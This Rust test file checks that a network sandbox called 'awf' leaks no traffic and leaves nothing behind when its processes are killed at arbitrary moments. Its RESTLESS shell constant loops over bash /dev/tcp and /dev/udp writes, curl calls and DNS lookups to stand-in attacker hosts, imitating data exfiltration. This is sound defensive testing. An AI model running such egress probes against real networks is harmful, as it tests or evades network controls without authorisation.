//! Death at any moment: no packet outside of the policy, no process left, and the next run removes the rest.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Child, Stdio};
use std::sync::Mutex;
use std::thread;
use std::time::{Duration, Instant};

use awf_tests::unconfined;
use nix::sys::signal::Signal;

use crate::world::{
    Ended, PATIENCE, Watch, World, children, command_line, ended, finish, finish_in, id_of,
    leaks_of, send,
};

/// Tries everything that is denied, and what is allowed, without pause: TCP, UDP and DNS, IPv4 and IPv6.
const RESTLESS: &str = "echo started; exec >/dev/null 2>&1
    ( while :; do
        echo x >/dev/udp/203.0.113.66/9999; echo x >/dev/udp/203.0.113.66/443; echo x >/dev/udp/8.8.4.4/5353
        echo x >/dev/udp/2600:1ab::66/443; echo x >/dev/tcp/203.0.113.66/22; echo x >/dev/tcp/2600:1ab::66/443
        echo x >/dev/tcp/8.8.8.8/53
    done ) &
    ( while :; do
        getent ahosts leak.attacker.test
        echo x >/dev/tcp/attacker.test/443; echo x >/dev/tcp/203.0.113.66/443; echo x >/dev/tcp/93.184.216.34/8080
    done ) &
    ( while :; do
        curl -s -m 2 -o /dev/null https://example.com https://denied.example.net http://93.184.216.38 http://example.com
    done ) &
    wait";

/// When to kill after a process was born.
fn delays() -> impl Iterator<Item = Duration> {
    (0..=150).step_by(10).map(Duration::from_millis)
}

#[derive(Clone, Copy, Debug)]
enum Victim {
    /// awf, from its start.
    Awf,
    /// awf, from the command's start.
    BusyAwf,
    Squid,
    /// The process that awf starts in the agent's cgroup.
    Outer,
    /// Process 1 of the sandbox.
    One,
    /// What becomes the command.
    Command,
}

/// Kills the victim at every moment, each time in a run of its own.
fn sweep(victim: Victim) {
    let watch = Watch::begin();
    let todo = Mutex::new(delays());
    thread::scope(|scope| {
        for _worker in 0..3 {
            scope.spawn(|| {
                let world = World::new();
                loop {
                    let Some(delay) = todo.lock().unwrap().next() else { return };
                    kill_once(&world, victim, delay);
                }
            });
        }
    });
    watch.saw_nothing_else();
}

fn kill_once(world: &World, victim: Victim, delay: Duration) {
    let context = format!("{victim:?} killed after {delay:?}");
    let began = Instant::now();
    let mut child = world.awf().args(["--", RESTLESS]).spawn().unwrap();
    let awf = id_of(&child);
    let target = match victim {
        Victim::Awf => Some(awf),
        Victim::BusyAwf => {
            wait_for_start(&mut child);
            Some(awf)
        }
        _ => find(&mut child, victim),
    };
    let target = target.unwrap_or_else(|| panic!("{context}: no victim"));
    thread::sleep(delay);
    send(target, Signal::SIGKILL);
    match victim {
        Victim::Awf | Victim::BusyAwf => {
            let run = finish_in(child, began, &context);
            assert_eq!(run.code, 137, "{context}: {run:#?}");
            world.dies_out(&context);
            let next = world.run(&[], "echo next");
            assert_eq!((next.code, next.stdout.as_str()), (0, "next\n"), "{context}: {next:#?}");
        }
        Victim::Squid => {
            // The run goes on without it.
            thread::sleep(Duration::from_millis(100));
            assert!(
                child.try_wait().unwrap().is_none(),
                "{context}: {:#?}",
                finish_in(child, began, &context)
            );
            send(awf, Signal::SIGTERM);
            let run = finish_in(child, began, &context);
            assert_eq!(run.code, 143, "{context}: {run:#?}");
        }
        Victim::Outer | Victim::One | Victim::Command => {
            let run = finish_in(child, began, &context);
            if run.stdout == "started\n" {
                assert_eq!(run.code, 137, "{context}: {run:#?}");
            } else {
                assert_ne!(run.code, 0, "{context}: {run:#?}");
            }
            assert!(run.took < delay + Duration::from_secs(20), "{context}: {run:#?}");
        }
    }
    world.dies_out(&context);
    assert_eq!(world.left(), [""; 0], "{context}");
}

/// Waits until the command runs. Its later output is not read, and there is none.
fn wait_for_start(child: &mut Child) {
    let mut stdout = child.stdout.take().unwrap();
    let mut byte = [0; 1];
    assert_eq!(
        std::io::Read::read(&mut stdout, &mut byte).unwrap(),
        1,
        "the command did not start"
    );
    // Closed here: nobody writes to it any more.
}

/// Waits for the birth of a process of the run.
fn find(child: &mut Child, victim: Victim) -> Option<i32> {
    let awf = id_of(child);
    let began = Instant::now();
    while began.elapsed() < PATIENCE && child.try_wait().unwrap().is_none() {
        let outer = || {
            let is_init = |pid: &i32| command_line(*pid).get(1).is_some_and(|word| word == "init");
            children(awf).into_iter().find(is_init)
        };
        // Beside it a helper lives for a moment.
        let one = || children(outer()?).into_iter().find(|pid| is_process_one(*pid));
        let found = match victim {
            Victim::Awf | Victim::BusyAwf => Some(awf),
            Victim::Squid => squid(awf),
            Victim::Outer => outer(),
            Victim::One => one(),
            Victim::Command => one().and_then(|pid| children(pid).first().copied()),
        };
        if found.is_some() {
            return found;
        }
        thread::sleep(Duration::from_micros(200));
    }
    None
}

/// Whether a process is the first of a pid namespace: the last of its ids (proc(5), `NSpid`) is 1.
fn is_process_one(pid: i32) -> bool {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let ids = status.lines().find(|line| line.starts_with("NSpid:"));
    ids.is_some_and(|ids| ids.split_whitespace().next_back() == Some("1"))
}

fn squid(awf: i32) -> Option<i32> {
    let is_squid = |word: &String| word == "awf-proxy" || word.ends_with("/squid");
    children(awf).into_iter().find(|pid| command_line(*pid).first().is_some_and(is_squid))
}

#[test]
fn what_the_restless_command_tries_reaches_the_sink_without_awf() {
    let leaks = leaks_of(|| drop(unconfined(&format!("timeout 3 bash -c '{RESTLESS}'"))));
    let leaks = leaks.join("\n");
    for needle in
        ["203.0.113.66", "2600:1ab::66", "93.184.216.38", "leak.attacker.test", "dport: Some(9999)"]
    {
        assert!(leaks.contains(needle), "{needle} is missing in:\n{leaks}");
    }
}

#[test]
fn awf_may_be_killed_at_any_moment_of_its_start() {
    sweep(Victim::Awf);
}

#[test]
fn awf_may_be_killed_while_the_command_tries_everything() {
    sweep(Victim::BusyAwf);
}

#[test]
fn squid_may_be_killed_at_any_moment() {
    sweep(Victim::Squid);
}

#[test]
fn the_first_process_of_the_sandbox_may_be_killed_at_any_moment() {
    sweep(Victim::Outer);
}

#[test]
fn process_1_of_the_sandbox_may_be_killed_at_any_moment() {
    sweep(Victim::One);
}

#[test]
fn the_command_may_be_killed_at_any_moment() {
    sweep(Victim::Command);
}

#[test]
fn sigterm_ends_awf_at_any_moment_of_its_start() {
    let world = World::new();
    for delay in delays() {
        let began = Instant::now();
        let child = world.awf().args(["--", "sleep 60"]).spawn().unwrap();
        thread::sleep(delay);
        send(id_of(&child), Signal::SIGTERM);
        let run = finish(child, began);
        assert_eq!(run.code, 143, "after {delay:?}: {run:#?}");
        world.dies_out(&format!("SIGTERM after {delay:?}"));
        assert_eq!(world.left(), [""; 0], "after {delay:?}: {run:#?}");
    }
}

#[test]
fn the_remains_of_a_killed_run_are_there_until_the_next_run_removes_them_and_no_other_run() {
    let world = World::new();
    let began = Instant::now();
    let mut orphan = world.awf().args(["--", "echo started; sleep 60"]).spawn().unwrap();
    wait_for_start(&mut orphan);
    let line = "echo started; read line; echo $line";
    let mut neighbour = world.awf().args(["--", line]).stdin(Stdio::piped()).spawn().unwrap();
    let mut said = BufReader::new(neighbour.stdout.take().unwrap()).lines();
    assert_eq!(said.next().unwrap().unwrap(), "started");
    orphan.kill().unwrap();
    orphan.wait().unwrap();
    let both = world.left();

    let next = world.run(&[], "true");
    assert_eq!(next.code, 0, "{next:#?}");
    assert!(next.stderr.contains("Removed what a killed run left behind"), "{next:#?}");
    let one = world.left();
    assert!(!one.is_empty() && one.len() < both.len(), "before {both:#?}, after {one:#?}");
    assert!(one.iter().all(|thing| both.contains(thing)), "before {both:#?}, after {one:#?}");

    writeln!(neighbour.stdin.take().unwrap(), "undisturbed").unwrap();
    assert_eq!(said.next().unwrap().unwrap(), "undisturbed");
    let neighbour = finish(neighbour, began);
    assert_eq!(neighbour.code, 0, "{neighbour:#?}");
    world.dies_out("all runs have ended");
    assert_eq!(world.left(), [""; 0]);
}

/// A run that answers each line of input with one line of output, after executing it.
struct Shell {
    child: Child,
    said: std::io::Lines<BufReader<std::process::ChildStdout>>,
    began: Instant,
}

impl Shell {
    fn start(world: &World) -> Self {
        let began = Instant::now();
        let line = "while read -r line; do eval \"$line\"; done";
        let mut child = world.awf().args(["--", line]).stdin(Stdio::piped()).spawn().unwrap();
        let said = BufReader::new(child.stdout.take().unwrap()).lines();
        Self { child, said, began }
    }

    fn ask(&mut self, line: &str) -> String {
        self.tell(line);
        self.said.next().expect("the run is alive").unwrap()
    }

    fn tell(&mut self, line: &str) {
        writeln!(self.child.stdin.as_mut().unwrap(), "{line}").unwrap();
    }

    fn end(mut self) -> Ended {
        drop(self.child.stdin.take());
        finish(self.child, self.began)
    }
}

/// Prints curl's exit code.
const REQUEST: &str = "curl -s -m 20 -o /dev/null https://example.com; echo $?";

#[test]
fn a_killed_squid_is_replaced_and_connections_in_flight_end() {
    let world = World::new();
    let mut shell = Shell::start(&world);
    assert_eq!(shell.ask(REQUEST), "0");
    // Prints its size when the first bytes are there, and curl's exit code at the end.
    shell
        .tell("{ curl -s --limit-rate 1m -o big -m 60 https://files.test/1GiB; echo ended $?; } &");
    shell.ask("until [ -s big ]; do sleep 0.01; done; echo flowing");
    let first = squid(id_of(&shell.child)).expect("Squid runs");
    send(first, Signal::SIGKILL);
    let in_flight = shell.said.next().unwrap().unwrap();
    assert!(in_flight.starts_with("ended ") && in_flight != "ended 0", "{in_flight}");
    // The very next request may meet the moment before the death is noticed.
    let answers: Vec<String> = (0..50)
        .map(|_| shell.ask(REQUEST))
        .scan(false, |over, answer| (!std::mem::replace(over, answer == "0")).then_some(answer))
        .collect();
    assert_eq!(answers.last().unwrap(), "0", "{answers:?}");
    assert!(answers.len() < 20, "{answers:?}");
    assert_ne!(squid(id_of(&shell.child)), Some(first));
    let denied = shell.ask("curl -s -m 20 -o /dev/null https://denied.example.net; echo $?");
    assert_ne!(denied, "0", "the new Squid allows more");
    let run = shell.end();
    assert!(run.stderr.contains("Squid died and is started again"), "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_squid_that_keeps_dying_leaves_a_run_that_fails_fast_and_ends_well() {
    let world = World::new();
    let mut shell = Shell::start(&world);
    assert_eq!(shell.ask(REQUEST), "0");
    let began = Instant::now();
    let mut deaths = 0;
    // Restarts come ever later; three seconds without one means that awf has given up.
    let mut last = Instant::now();
    while last.elapsed() < Duration::from_secs(4) && began.elapsed() < PATIENCE {
        if let Some(pid) = squid(id_of(&shell.child)) {
            send(pid, Signal::SIGKILL);
            deaths += 1;
            last = Instant::now();
            while !command_line(pid).is_empty() {
                thread::sleep(Duration::from_millis(1));
            }
        }
        thread::sleep(Duration::from_millis(1));
    }
    assert!((2..20).contains(&deaths), "{deaths} deaths");
    let asked = Instant::now();
    assert_ne!(shell.ask(REQUEST), "0");
    assert!(asked.elapsed() < Duration::from_secs(5), "a request hangs without Squid");
    assert_eq!(shell.ask("echo alive"), "alive");
    let run = shell.end();
    assert_eq!(run.code, 0, "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_command_that_ignores_sigterm_is_killed() {
    let world = World::new();
    let began = Instant::now();
    let line = "trap '' TERM INT HUP; echo started; while :; do sleep 1; done";
    let mut child = world.awf().args(["--", line]).spawn().unwrap();
    wait_for_start(&mut child);
    send(id_of(&child), Signal::SIGTERM);
    assert!(ended(&mut child, Duration::from_secs(20)).is_some());
    let run = finish(child, began);
    assert_eq!(run.code, 143, "{run:#?}");
    world.dies_out("SIGTERM ignored");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_run_directory_full_of_nonsense_does_not_stop_the_next_run() {
    let world = World::new();
    for (name, text) in [("a", "{"), ("b", "{\"cgroups\":[]}"), ("c", "")] {
        let directory = world.file("/run/awf").join(name);
        fs::create_dir(&directory).unwrap();
        fs::write(directory.join("owned.json"), text).unwrap();
    }
    fs::write(world.file("/run/awf/file"), "not a run").unwrap();
    let run = world.run(&[], "echo ran");
    assert_eq!((run.code, run.stdout.as_str()), (0, "ran\n"), "{run:#?}");
    assert!(run.stderr.contains("/b/owned.json is of another version"), "{run:#?}");
    let left = world.left();
    let kept = |entry: &String| entry.ends_with("/file") || entry.contains("/run/awf/b");
    assert!(left.iter().all(kept) && left.len() >= 2, "{left:?}");
}
